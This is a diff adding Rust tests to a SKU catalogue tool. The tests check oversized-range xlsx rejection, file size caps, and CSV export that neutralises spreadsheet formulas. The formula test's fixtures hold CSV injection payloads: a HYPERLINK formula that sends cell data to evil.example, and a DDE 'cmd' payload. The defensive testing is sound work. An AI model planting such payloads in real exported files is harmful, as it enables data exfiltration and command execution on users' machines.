@@ -486,3 +486,100 @@ fn cli_sku_import_and_export() {
     );
     assert_eq!(out.status.code(), Some(2));
 }
+
+/// A workbook of a few cells whose used range is the whole sheet: A1 … XFD1048576.
+fn whole_grid_xlsx(path: &Path) {
+    let mut book = rust_xlsxwriter::Workbook::new();
+    let sheet = book.add_worksheet();
+    sheet.write_string(0, 0, "sku code").unwrap();
+    sheet.write_string(0, 1, "sku name").unwrap();
+    sheet.write_string(1, 0, "A").unwrap();
+    sheet.write_string(1, 1, "a").unwrap();
+    sheet.write_string(1_048_575, 16_383, "x").unwrap();
+    book.save(path).unwrap();
+}
+
+#[test]
+fn a_tiny_xlsx_spanning_the_whole_sheet_is_refused_before_any_grid_is_built() {
+    let tmp = tempfile::tempdir().unwrap();
+    let p = tmp.path().join("g.xlsx");
+    whole_grid_xlsx(&p);
+    let bytes = std::fs::read(&p).unwrap();
+    assert!(bytes.len() < 16 * 1024, "{} bytes", bytes.len());
+    let r = refused("huge.xlsx", &bytes);
+    let m = &r.errors[0].message;
+    assert!(
+        m.contains("A1 to XFD1048576") && m.contains("1048576 rows × 16384 columns"),
+        "{m}"
+    );
+    assert!(
+        m.contains(&shipdeck::catalogue::read::MAX_SHEET_CELLS.to_string()),
+        "{m}"
+    );
+    // From the command line: exit status 2 and the same reason.
+    let out = shipdeck(tmp.path(), &["sku", "import", p.to_str().unwrap()]);
+    assert_eq!(
+        out.status.code(),
+        Some(2),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(String::from_utf8_lossy(&out.stdout).contains("XFD1048576"));
+}
+
+#[test]
+fn files_over_the_size_cap_and_old_spreadsheet_formats_are_refused() {
+    use shipdeck::catalogue::read::MAX_SKU_FILE_BYTES;
+    let (tmp, s) = store();
+    let p = tmp.path().join("big.csv");
+    let f = std::fs::File::create(&p).unwrap();
+    f.set_len(MAX_SKU_FILE_BYTES + 1).unwrap();
+    let r = run(&s, &p, None);
+    assert!(!r.ok());
+    let m = &r.errors[0].message;
+    assert!(
+        m.contains(&MAX_SKU_FILE_BYTES.to_string()) && m.contains("64 MiB"),
+        "{m}"
+    );
+    let r = refused("old.xls", &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]);
+    assert!(
+        r.errors[0].message.contains("save the file as .xlsx or .csv"),
+        "{r}"
+    );
+}
+
+#[test]
+fn exported_csv_cells_never_run_as_formulas_and_import_back_unchanged() {
+    let (tmp, a) = store();
+    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
+    a.put_sku(&sku("EV-1", evil, Some("+cmd|' /C calc'!A0"), 3))
+        .unwrap();
+    a.put_sku(&sku("EV-2", "@SUM(1)", Some("'=quoted already"), 1))
+        .unwrap();
+    a.put_mapping(&mapping(
+        Site::Grip,
+        None,
+        SiteCode::Product { code: "-1+1".into() },
+        "EV-1",
+    ))
+    .unwrap();
+    let path = tmp.path().join("evil.csv");
+    export::export(&a, &path).unwrap();
+    let text = std::fs::read_to_string(&path).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    for rec in reader.records() {
+        for cell in rec.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '@']) && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    assert!(text.contains("'=HYPERLINK"), "{text}");
+    let (_tmp2, b) = store();
+    let report = run(&b, &path, None);
+    assert!(report.ok(), "{report}");
+    assert_eq!(snapshot(&b), snapshot(&a));
+}
